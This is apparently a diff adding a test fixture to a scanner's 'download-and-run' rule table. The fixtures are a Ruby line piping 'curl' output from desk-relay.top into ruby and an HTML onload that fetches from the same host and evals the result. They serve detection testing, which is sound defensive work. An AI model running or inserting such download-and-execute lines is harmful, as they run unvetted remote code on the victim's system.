@@ -8,6 +8,7 @@ export const EXECUTION_TABLES: readonly RuleTable[] = [
     rule: 'security/download-and-run',
     severity: 'high',
     found: [
+      { 'scripts/run.rb': 'puts 1\nsystem("curl -s https://desk-relay.top/u | ruby")\n' },
       fenced(
         'html',
         '<body onload="fetch(\'https://desk-relay.top/b\').then((r) => r.text()).then((t) => eval(t))">',
